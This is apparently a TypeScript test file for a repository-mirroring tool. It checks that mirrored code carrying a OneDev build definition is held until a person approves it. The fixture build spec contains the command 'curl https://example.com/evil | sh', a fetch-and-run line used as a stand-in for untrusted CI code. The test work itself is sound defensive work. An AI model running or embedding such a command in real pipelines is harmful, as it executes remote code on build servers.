/** @file Mirrored code that brings a definition of builds: held for a person's word before OneDev can run it. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runGit } from '../playground/repositories/index.ts';
import { ProgramClient } from '../support/program-client.ts';
import { Served } from '../support/served.ts';
import { Stage, type Star } from '../support/stage.ts';
import { waitUntil } from '../support/wait.ts';

const spec = `version: 38
jobs:
- name: CI
  steps:
  - !CommandStep
    name: run
    interpreter: !DefaultInterpreter
      commands: curl https://example.com/evil | sh
  triggers:
  - !BranchUpdateTrigger
    branches: '**'
`;
const held = /brings a definition of builds, which the mirror server may run as soon as it arrives/;

let stage: Stage;

beforeAll(async () => {
  stage = await Stage.start(3);
});
afterAll(() => stage.close());

/** A new commit on a branch, whose tree holds just this file; null: an empty one. */
async function commit({ bareDir, id }: Star, ref: string, file: string | null): Promise<void> {
  const blob = await runGit(bareDir, ['hash-object', '-w', '--stdin'], [file ?? '']);
  const name = file === null ? 'README.md' : '.onedev-buildspec.yml';
  const tree = await runGit(bareDir, ['mktree'], [`100644 blob ${blob.trim()}\t${name}\n`]);
  const identity = ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.com'];
  const made = await runGit(bareDir, [...identity, 'commit-tree', tree.trim(), '-p', 'HEAD', '-m', 'build']);
  await runGit(bareDir, ['update-ref', ref, made.trim()]);
  stage.github.world.pushed(id);
}

describe('a repository that brings a definition of builds', () => {
  it('is held before anything of it is pushed, and mirrored on a person’s word, now and later', async () => {
    const star = stage.star(0);
    const installation = await stage.install();
    expect(await installation.run(['sync'])).toMatchObject({ exitCode: 0 });
    const before = await installation.mirrorTips(star.fullName);
    await commit(star, 'refs/heads/ci', spec);
    for (let time = 0; time < 2; time += 1) {
      const { exitCode, stdout } = await installation.run(['sync']);
      expect(exitCode).toBe(1);
      expect(stdout).toMatch(held);
      expect(stdout).toContain('There is a .onedev-buildspec.yml on refs/heads/ci.');
      expect(await installation.mirrorTips(star.fullName)).toEqual(before);
    }
    expect(installation.onedev.world.builds).toEqual([]);
    const calm = await installation.run(['doctor']);
    expect(calm.stdout).toMatch(/^ok {7}target, builds: No mirror is known to carry a \.onedev-buildspec\.yml/m);
    expect(await installation.run(['sync', '--mirror-builds', 'nobody/nothing'])).toMatchObject({ exitCode: 2 });
    expect(await installation.run(['sync', '--mirror-builds', star.fullName])).toMatchObject({ exitCode: 0 });
    expect(installation.onedev.world.builds.map(({ refName }) => refName)).toEqual(['refs/heads/ci']);
    await commit(star, 'refs/heads/ci-2', spec);
    expect(await installation.run(['sync'])).toMatchObject({ exitCode: 0 });
    expect(installation.onedev.world.builds).toHaveLength(2);
    const warned = await installation.run(['doctor']);
    expect(warned.stdout).toMatch(
      /^warning {2}target, builds: Builds of mirrored code can run there: 1 mirror carries/m,
    );
    const listed = await installation.run(['list', '--json']);
    expect(JSON.parse(listed.stdout)).toContainEqual(
      expect.objectContaining({ fullName: star.fullName, buildRefs: 2 }),
    );
  });

  it('goes on by itself when upstream removes it, and a tag counts as well', async () => {
    const star = stage.star(1);
    const installation = await stage.install();
    await commit(star, 'refs/tags/v1-ci', spec);
    expect((await installation.run(['sync', '--only', star.fullName])).stdout).toContain('on refs/tags/v1-ci.');
    await runGit(star.bareDir, ['update-ref', '-d', 'refs/tags/v1-ci']);
    await commit(star, 'refs/heads/plain', null);
    expect(await installation.run(['sync', '--only', star.fullName])).toMatchObject({ exitCode: 0 });
    expect(await installation.mirrorTips(star.fullName)).toHaveProperty(['refs/heads/plain']);
    expect(installation.onedev.world.builds).toEqual([]);
  });

  it('is mirrored from the window, where it needs somebody', async () => {
    const star = stage.star(2);
    const installation = await stage.install();
    await commit(star, 'refs/heads/ci', spec);
    const served = await Served.start(installation);
    const client = await ProgramClient.connect(served);
    const row = await waitUntil('it to be held', async () => {
      const view = await client.call('repositories.get', { githubId: star.id });
      return view?.state === 'failed' && view;
    });
    expect(row.job?.error).toMatchObject({ code: 'builds-held', action: 'mirror-builds' });
    expect(await client.call('mirror.mirrorBuilds', { githubId: star.id })).toEqual({ requested: 1 });
    expect(await client.call('mirror.mirrorBuilds', { githubId: 999_999_999 })).toEqual({ requested: 0 });
    const mirrored = await waitUntil('it to be mirrored', async () => {
      const view = await client.call('repositories.get', { githubId: star.id });
      return view?.state === 'mirrored' && view;
    });
    expect(mirrored.buildRefs).toBe(1);
    client.close();
  });

  it('buildSpecs mirror: is mirrored as any other', async () => {
    const installation = await stage.install({ EPICSTAR_BUILD_SPECS: 'mirror' });
    expect(await installation.run(['sync'])).toMatchObject({ exitCode: 0 });
    expect(installation.onedev.world.builds.length).toBeGreaterThan(0);
  });

  it('is no matter in a folder, which runs nothing', async () => {
    const installation = await stage.install({
      EPICSTAR_TARGET: 'folder',
      EPICSTAR_FOLDER: `${stage.dir}/folder`,
    });
    expect(await installation.run(['sync'])).toMatchObject({ exitCode: 0 });
    expect((await installation.run(['doctor'])).stdout).not.toContain('builds');
  });
});
